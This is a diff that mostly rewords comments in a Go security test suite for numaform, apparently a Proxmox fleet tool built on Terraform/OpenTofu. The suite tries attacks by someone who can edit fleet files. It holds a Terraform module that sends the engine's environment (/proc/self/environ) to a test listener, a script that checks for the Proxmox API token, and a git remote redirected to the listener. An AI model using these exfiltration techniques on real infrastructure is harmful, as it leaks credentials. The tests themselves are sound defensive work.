@@ -18,44 +18,45 @@ import (
 	"github.com/numaform/numaform/modules"
 )
 
-// attack is a change of a fleet's files by somebody who may only change these.
+// attack is a change of a fleet's files by an attacker who can change only these.
 type attack struct {
 	name string
 	edit func(w *world, f files)
-	// names is the path that a refusal names, or a part of it.
+	// names is the path, or a part of it, that a refusal must name.
 	names string
-	// namesBy returns it where it is known once the attack is made.
+	// namesBy returns that path, if it is only known after the attack.
 	namesBy func() string
-	// tree is the path of a file that only a tree made by hand can hold; edit is nil.
+	// tree is the path of a file that only a hand-made tree can contain; edit is nil.
 	tree string
-	// only is where it is possible; empty means everywhere.
+	// only is where the attack is possible; empty means everywhere.
 	only place
-	// passes tells an attack that does nothing by itself: numaform passes over it.
+	// passes is set for an attack that has no effect by itself: numaform ignores it.
 	passes bool
-	// left is one that does nothing in a directory.
+	// left is set for an attack that has no effect in a directory.
 	left bool
-	// fresh is an attack on a machine that has no working copy yet.
+	// fresh is set for an attack on a machine without a working copy.
 	fresh bool
-	// some is an attack that meets two commands only. more is one of many of a kind: it
-	// meets one, and not the baseline.
+	// some is set for an attack that meets two commands only. more is set for one of many
+	// similar ones: it meets one command, and is not run against the baseline.
 	some, more bool
-	// command is what sets it off in a numaform that does not refuse it; plan if empty.
+	// command triggers the attack in a numaform that does not refuse it; default is plan.
 	command []string
-	// twice is an attack that needs the command again, as the controller does it.
+	// twice is set if the command must run twice, as in the controller.
 	twice bool
-	// huge is an attack by size, whose memory is measured. It is slow, and made with one
-	// engine only.
+	// huge is set for an attack by size, whose memory is measured. It is slow, and run with
+	// one engine only.
 	huge bool
-	// succeeded returns what is missing for its success, as the baseline shows it.
+	// succeeded returns what is missing for a success against the baseline.
 	succeeded func(w *world, saw *seen) string
 }
 
-// seen is what a command of numaform did.
+// seen is the observed effect of a command of numaform.
 type seen struct {
 	result
-	// started are notes of engines, providers and programs of the attacker.
+	// started are the records of engines, providers and programs of the attacker.
 	started []string
-	// connections is how often the listener was connected to, and asked what was said.
+	// connections is the number of connections to the listener, and asked the data sent
+	// over them.
 	connections int
 	asked       []byte
 	exposed     []string
@@ -63,7 +64,7 @@ type seen struct {
 	writes      []string
 }
 
-// watch runs a command and returns what it did.
+// watch runs a command and returns its observed effects.
 func (w *world) watch(args ...string) *seen {
 	w.t.Helper()
 	saw := &seen{result: w.run(args...)}
@@ -75,11 +76,11 @@ func (w *world) watch(args ...string) *seen {
 func planNothing() []string  { return []string{"plan", "-f", "nothing.yaml"} }
 func applyNothing() []string { return []string{"apply", "-f", "nothing.yaml", "--auto-approve"} }
 
-// environ is an expression for the engine's environment, which a URL may hold.
+// environ is an expression for the engine's environment in a form that a URL may contain.
 const environ = `urlencode(filebase64("/proc/self/environ"))`
 
-// remoteState is a file of a module that tells the listener all that the engine has in
-// its environment, without any provider.
+// remoteState returns a file of a module that sends the engine's environment to the
+// listener, without any provider.
 func (w *world) remoteState(mark string) string {
 	return fmt.Sprintf(`data "terraform_remote_state" "x" {
   backend = "http"
@@ -90,8 +91,8 @@ func (w *world) remoteState(mark string) string {
 `, w.listener.server.URL, mark, environ)
 }
 
-// carried returns the files of the modules of a fleet, by their paths below a directory
-// without the hash, and the hash.
+// carried returns the files of a fleet's modules, by their paths below a directory without
+// the hash, and the hash.
 func (f files) carried(w *world) (map[string][]byte, string) {
 	w.t.Helper()
 	content, hash := map[string][]byte{}, ""
@@ -106,8 +107,8 @@ func (f files) carried(w *world) (map[string][]byte, string) {
 	return content, hash
 }
 
-// ownModule adds modules of the attacker's own under the hash of their content, which
-// makes the node file call them, and returns the hash.
+// ownModule adds the attacker's own modules under the hash of their content, makes the node
+// file call them, and returns the hash.
 func (f files) ownModule(w *world, node string, change func(content map[string][]byte)) string {
 	w.t.Helper()
 	content, hash := f.carried(w)
@@ -121,8 +122,7 @@ func (f files) ownModule(w *world, node string, change func(content map[string][
 	return own
 }
 
-// resurrect brings the node file of the VM back that was removed, so that there is
-// something to apply.
+// resurrect restores the node file of the removed VM, so that there is something to apply.
 func (f files) resurrect(w *world) string {
 	f.put(w.removed, string(w.removedContent))
 	return w.removed
@@ -133,13 +133,12 @@ func with(name, text string) func(map[string][]byte) {
 	return func(content map[string][]byte) { content[name] = []byte(text) }
 }
 
-// evil is a program of the attacker's that notes that it was started, and by what
-// environment.
+// evil returns a program of the attacker's that records its start and its environment.
 func (w *world) evil(mark string) string {
 	return fmt.Sprintf("#!/bin/sh\necho %s $(env | grep -c ^PROXMOX_VE_API_TOKEN=) >>%q\nexit 1\n", mark, w.notes())
 }
 
-// step and staged are a write of numaform's that was cut off, as it keeps it.
+// step and staged are an interrupted write of numaform's, as stored by it.
 type step struct {
 	Path   string `json:"path"`
 	Before []byte `json:"before"`
@@ -151,20 +150,20 @@ type staged struct {
 	Steps []step `json:"steps"`
 }
 
-// next returns a write that was cut off.
+// next returns an interrupted write.
 func (w *world) next(steps ...step) string {
 	text, err := json.Marshal(staged{Steps: steps})
 	w.must(err)
 	return string(text)
 }
 
-// gitConfig is the configuration of a working copy whose first URL is the listener's.
+// gitConfig returns the configuration of a working copy whose first URL is the listener's.
 func (w *world) gitConfig() []byte {
 	return fmt.Appendf(nil, "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = %s/fleet.git\n\turl = %s\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
 		w.listener.server.URL, w.path("remote.git"))
 }
 
-// shown are the attacks that were shown to work.
+// shown returns the attacks that were demonstrated.
 func shown() []attack {
 	providerDir := path.Join(shard, ".terraform/providers", generator.ProviderSource, generator.ProviderVersion, runtime.GOOS+"_"+runtime.GOARCH)
 	provider := path.Join(".numaform/work", providerDir, "terraform-provider-proxmox_v"+generator.ProviderVersion)
@@ -271,7 +270,8 @@ func shown() []attack {
 	}
 }
 
-// clonedConfig returns the git configuration of the working copy, as anybody can guess it.
+// clonedConfig returns the git configuration of the working copy, which an attacker can
+// guess.
 func (w *world) clonedConfig() []byte {
 	content, err := os.ReadFile(w.path("fleet", ".git", "config"))
 	if os.IsNotExist(err) {
@@ -288,7 +288,7 @@ func subModule(source string) func(w *world, f files) {
 	}
 }
 
-// tokenSent wants the Proxmox token at the listener.
+// tokenSent checks that the listener received the Proxmox token.
 func tokenSent(_ *world, saw *seen) string {
 	if !slices.Contains(leaked(saw.asked), tokenCanary) {
 		return fmt.Sprintf("the listener was asked: %q", saw.asked)
@@ -296,7 +296,7 @@ func tokenSent(_ *world, saw *seen) string {
 	return ""
 }
 
-// asked wants any connection of the listener.
+// asked checks that the listener had any connection.
 func asked(_ *world, saw *seen) string {
 	if saw.connections == 0 {
 		return "the listener was not asked"
@@ -304,7 +304,7 @@ func asked(_ *world, saw *seen) string {
 	return ""
 }
 
-// tookMemory wants more memory than any fleet needs.
+// tookMemory checks that the command took more memory than any fleet needs.
 func tookMemory(_ *world, saw *seen) string {
 	if saw.memoryMiB < maxMemoryMiB {
 		return fmt.Sprintf("it took %d MiB", saw.memoryMiB)
@@ -312,10 +312,10 @@ func tookMemory(_ *world, saw *seen) string {
 	return ""
 }
 
-// maxMemoryMiB is what a command of numaform may take on a small fleet.
+// maxMemoryMiB is the memory limit of a command of numaform on a small fleet.
 const maxMemoryMiB = 150
 
-// exists wants a file of the world.
+// exists checks that a file of the world exists.
 func exists(name string) func(*world, *seen) string {
 	return func(w *world, _ *seen) string {
 		if _, err := os.Stat(w.path(name)); err != nil {
@@ -325,7 +325,7 @@ func exists(name string) func(*world, *seen) string {
 	}
 }
 
-// launch makes an attack on the world as it was at first.
+// launch runs an attack on the initial world.
 func (w *world) launch(a attack) {
 	w.t.Helper()
 	w.restore()
@@ -342,7 +342,7 @@ func (w *world) launch(a attack) {
 	}
 }
 
-// TestBaseline is the control: the attacks that were shown succeed against the baseline.
+// TestBaseline is the control: the demonstrated attacks succeed against the baseline.
 func TestBaseline(t *testing.T) {
 	t.Parallel()
 	for name, engine := range engines(t) {
@@ -360,12 +360,12 @@ func TestBaseline(t *testing.T) {
 	}
 }
 
-// possible reports whether an attack is made in a world with an engine.
+// possible reports whether an attack can be run in a world with an engine.
 func (a *attack) possible(w *world, engine string) bool {
 	return (a.only == "" || a.only == w.place) && (!a.huge || engine == "tofu")
 }
 
-// where returns the path that a refusal names.
+// where returns the path that a refusal must name.
 func (a *attack) where() string {
 	if a.namesBy != nil {
 		return a.namesBy()
@@ -373,7 +373,7 @@ func (a *attack) where() string {
 	return a.names
 }
 
-// succeeds wants an attack to reach what it is for.
+// succeeds checks that an attack has its intended effect.
 func (w *world) succeeds(a attack) {
 	w.t.Helper()
 	w.launch(a)
@@ -391,14 +391,14 @@ func (w *world) succeeds(a attack) {
 	w.restoreAll()
 }
 
-// of returns the world for a part of its test.
+// of returns the world for a subtest.
 func (w *world) of(t *testing.T) *world {
 	part := *w
 	part.t = t
 	return &part
 }
 
-// restoreAll brings Proxmox and the states back after an attack that changed them.
+// restoreAll restores Proxmox and the states after an attack that changed them.
 func (w *world) restoreAll() {
 	for vmid := range w.found() {
 		if _, existed := w.guests[vmid]; !existed {
